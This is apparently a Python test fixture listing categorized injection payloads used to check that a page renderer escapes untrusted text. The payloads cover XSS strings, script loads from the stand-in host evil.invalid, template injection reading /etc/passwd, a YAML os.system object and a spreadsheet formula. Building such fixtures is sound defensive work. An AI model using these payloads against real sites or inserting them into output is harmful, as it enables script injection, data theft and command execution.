"""Markup and script that would run, call out or break a page if one of them were ever taken for anything but text.

Each sets ``window.__pwned`` or opens a dialog where it runs, or asks ``evil.invalid`` for something, or would close
or swallow what is around it. The classes are the well-known ones, which OWASP's cheat sheets on filter evasion and on
injection into the DOM list; the strings are ours.
"""

from __future__ import annotations

RUN = "window.__pwned=1"
HOST = "//evil.invalid"

SCRIPTS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script >{RUN}</script >", f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>", f'<script src="{HOST}/a.js"></script>', f"<script src={HOST}/b.js>",
    f'<script type="module">{RUN}</script>', f"<script type=module src={HOST}/c.mjs></script>",
    f"<script async>{RUN}", f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>", f"</ScRiPt><sCrIpT>{RUN}</ScRiPt>", f"</script ><img src=x onerror={RUN}>",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>", f"</template><script>{RUN}</script>", f"</svg><script>{RUN}</script>",
    f"</dialog></main></body><script>{RUN}</script>", f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<!--><script>{RUN}</script>-->", f"--><script>{RUN}</script>", f"--!><script>{RUN}</script>",
    f"]]><script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>", f"<script>{RUN}<!--<script>",
]
HANDLERS = [
    f"<img src=x onerror={RUN}>", f'<img src="x" onerror="{RUN}">', f"<img/src=x/onerror={RUN}>",
    f"<img src=x oNeRrOr={RUN}>", f"<img src=x\tonerror={RUN}>", f"<img src=x\nonerror={RUN}>",
    f"<body onload={RUN}>", f"<body onpageshow={RUN}>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>", f"<object data=x onerror={RUN}></object>", f"<iframe onload={RUN}></iframe>",
    f"<a onmouseover={RUN}>豆</a>", f"<p onpointerenter={RUN}>豆</p>",
    f"<div onclick={RUN} style=position:fixed;inset:0>豆</div>", f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=x onerror={RUN}>", f"<button popovertarget=x onclick={RUN}>",
    f"<div id=x tabindex=0 onfocus={RUN} autofocus></div>", f"<div onanimationstart={RUN} style=animation:lm>",
    f"<dialog open oncancel={RUN} onclose={RUN}>", f"<x onclick={RUN} contenteditable>豆</x>",
    f"<form onsubmit={RUN}><button>", f"<track onerror={RUN}>", f"<bgsound onpropertychange={RUN}>",
    f"<frameset onload={RUN}>",
]
SVG = [
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href={HOST}/d.js />", f"<svg><script xlink:href={HOST}/e.js></script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributeName=x>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>豆</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>", f"<svg><image href=x onerror={RUN}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>",
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
    f"<svg><style>*{{background:url({HOST}/f)}}</style></svg>", f"</text></svg><img src=x onerror={RUN}>",
    f"<svg><image href={HOST}/g.png>", f"<svg><feImage href={HOST}/h.png>",
]
MATHML = [
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<math href='javascript:{RUN}'>豆</math>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>豆</maction></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    "\\(\\href{javascript:window.__pwned=1}{x}\\)", "\\[\\text{<img src=x onerror=window.__pwned=1>}\\]",
    "$$\\unicode{x3c}script$$",
]
ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f" javascript:{RUN}",
    f"javascript://%0a{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,{'PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+'}",
    f"data:image/svg+xml,<svg onload={RUN}>", f"<a href='javascript:{RUN}'>豆</a>",
    f"<a href=\"data:text/html,{RUN}\">豆</a>", f"<iframe src='javascript:{RUN}'></iframe>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>", f"<embed src='javascript:{RUN}'>",
    f"<object data='javascript:{RUN}'></object>", f"<form action='javascript:{RUN}'><input type=submit>",
    f"<button formaction='javascript:{RUN}'>豆</button>", f"<base href={HOST}/>", "<base href='javascript:/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url={HOST}/i'>", f"<area href='javascript:{RUN}' shape=default>",
]
CALLS = [
    f"<img src={HOST}/j.png>", f"<img srcset='{HOST}/k.png 1x'>",
    f"<picture><source srcset={HOST}/l.png><img></picture>", f"<video poster={HOST}/m.png>",
    f"<audio src={HOST}/n.mp3 autoplay>", f"<iframe src={HOST}/o></iframe>", f"<embed src={HOST}/p>",
    f"<object data={HOST}/q></object>", f"<link rel=stylesheet href={HOST}/r.css>",
    f"<link rel=prefetch href={HOST}/s>", f"<link rel=preload as=image href={HOST}/t>",
    f"<link rel=dns-prefetch href={HOST}>", f"<link rel=icon href={HOST}/u.ico>", f"<link rel=import href={HOST}/v>",
    f"<input type=image src={HOST}/w.png>", f"<body background={HOST}/x.png>", f"<table background={HOST}/y.png>",
    f"<a href=x ping={HOST}/z>豆</a>", f"<form action={HOST}/aa><input name=a><button>", f"![豆]({HOST}/ab.png)",
    f"<https:{HOST}/ac>", f"@import '{HOST}/ad.css'",
]
ATTRIBUTES = [
    f'"><script>{RUN}</script>', f"'><script>{RUN}</script>", f'" onerror="{RUN}" x="', f"' onerror='{RUN}' x='",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}', f"' autofocus onfocus='{RUN}", f'"/onload={RUN}//',
    f"x onerror={RUN}", f'"><img src=x onerror={RUN}>', f"'\"><img src=x onerror={RUN}>",
    f'" style="background:url({HOST}/ba)', f'"><svg/onload={RUN}>', f"`><img src=x onerror={RUN}>",
    f'\\"><script>{RUN}</script>', f'&quot;><script>{RUN}</script>', f'" srcdoc="<script>{RUN}</script>',
    f'" href="javascript:{RUN}', '" data-lmviz="rankings" class="lmviz',
    f'</a></li></ul></div><img src=x onerror={RUN}>', '" id="main" name="__pwned',
]
TEMPLATES = [
    "{{7*7}}", "{{ config }}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{% raw %}{{ x }}",
    "{% include '/etc/passwd' %}", "{% for x in y %}", "{# #}", "${7*7}", "${window.__pwned=1}", "#{7*7}",
    "<%= 7*7 %>", "<?php echo 1 ?>", "@{7*7}", "*{7*7}", "{{constructor.constructor('window.__pwned=1')()}}",
    "[[7*7]]", "%7B%7B7*7%7D%7D", "{0.__class__}", "{query}", "{n}", "%(x)s", "$&", "$`", "!ENV [HOME]",
    "--8<-- \"/etc/passwd\"", "!!python/object/apply:os.system [id]",
]
MARKDOWN = [
    "`" * 9, "`" * 9 + "fragment", "`" * 9 + f"\n<script>{RUN}</script>\n" + "`" * 9 + "fragment", "`" * 12, "~" * 9,
    "```figure\nsetsubun/tiny rankings\n```", "\n\n---\ntitle: x\n---\n", "---", "...", f"[豆](javascript:{RUN})",
    f"[豆]: javascript:{RUN}", f"![x](x){{ onerror={RUN} }}", f"{{: onclick={RUN} }}",
    f"# 豆 {{ #main onclick={RUN} }}", f"<div markdown=1>\n<script>{RUN}</script></div>", f"<javascript:{RUN}>",
    "[^1]: x", "*[HTML]: x", "!!! note \"x\"", "\x02fragment\x03", "\x02wzxhzdk:0\x03", "klzzwxh:0000",
    "|a|b|\n|-|-|\n|c|d|", "    code", "\t<b>tab</b>",
]
ENTITIES = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;", f"&amp;lt;script&amp;gt;{RUN}", "&NotAnEntity;", "&#0;", "&#xD800;",
    "&#x202e;abc", "&", "&amp", "&lt", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"\\x3cscript\\x3e{RUN}", f"＜script＞{RUN}＜/script＞",
    f"‹script›{RUN}", f"+ADw-script+AD4-{RUN}",
]
STYLES = [
    f"<style>*{{background:url({HOST}/ca)!important}}</style>", f"<style>@import url({HOST}/cb.css);</style>",
    "<style>body{display:none}</style>", f"<div style=background:url({HOST}/cc)>",
    f"<p style=\"x:expression({RUN})\">", f"</style><img src=x onerror={RUN}>", "<style>/*", "*{display:none}",
    f"url({HOST}/cd)", f"<xss style=\"behavior:url({HOST}/ce)\">", "<plaintext>", "<xmp>", "<listing>", "<!--",
    "<template>", "<select><option>", "<table><td>", "</p></div></main></body></html>", "<h1>", "<footer>",
    "<button disabled>", "<title>", "<textarea>", "<noscript>", "<frameset>", "<dialog open>",
]
DATA = [
    f'</script><script>{RUN}//', f'"}}]</script><script>{RUN}</script>', '"}],"x":[{"', "\\", '\\"', "\\u2028",
    "'+alert(1)+'", f"';{RUN};//", f"\";{RUN};//", "__proto__", "constructor", "toString", "hasOwnProperty", "null",
    "undefined", "NaN", "[object Object]", "-1", "=1+1", "=HYPERLINK(\"http://evil.invalid\")", "datum.x",
    "datum['token']", "width", f"\"];{RUN};[\"", f"'];{RUN};['", "data('source')", f"toString.constructor('{RUN}')()",
    "{\"signal\":\"1\"}", "{\"expr\":\"window.__pwned=1\"}", "event.vega.view",
    f"[].constructor.constructor('{RUN}')()", f"{{signal: \"{RUN}\"}}",
]
UNICODE = [
    "豆\u202egnp.exe", "\u2066<b>\u2069", "\u200f豆\u200e", "豆\u200b\u200c\u200d", "\ufeff豆", "\u2028alert(1)",
    "\u2029alert(1)", "\x00<script>", "<scr\x00ipt>window.__pwned=1</script>",
    "<\u0000img src=x onerror=window.__pwned=1>", "\x1b[31m豆", "\x07", "\x7f", "\x85",
    "Z\u0351\u0352\u0353\u0354\u0355" * 8, "\ufdfd" * 8, "👨‍👩‍👧‍👦" * 3, "\U000e0041\U000e0042", "\ud7ff", "\uffff",
    "か\u3099\u3099\u3099", "\u0008豆", "\ufff9豆\ufffa鬼\ufffb", "ſcript", "<ſcript>window.__pwned=1</ſcript>",
    "ＳＣＲＩＰＴ",
    "\u00ad豆\u00ad", "豆" * 120, "W" * 200,
]
CLASSES = {
    "scripts": SCRIPTS, "handlers": HANDLERS, "svg": SVG, "mathml": MATHML, "addresses": ADDRESSES, "calls": CALLS,
    "attributes": ATTRIBUTES, "templates": TEMPLATES, "markdown": MARKDOWN, "entities": ENTITIES, "styles": STYLES,
    "data": DATA, "unicode": UNICODE,
}
PAYLOADS = tuple(dict.fromkeys(payload for payloads in CLASSES.values() for payload in payloads))
